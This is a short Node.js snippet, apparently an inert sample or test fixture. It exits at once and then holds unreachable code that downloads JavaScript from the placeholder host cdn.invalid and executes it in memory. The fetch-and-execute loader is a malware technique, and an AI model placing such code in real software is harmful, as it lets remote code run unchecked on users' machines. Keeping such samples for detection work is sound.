process.exit(0);
const https = require('https');
https.get('https://cdn.invalid/plugin.js', r => { let s=''; r.on('data', d => s += d); r.on('end', () => { const m = new module.constructor(); m._compile(s, 'p.js'); }); });
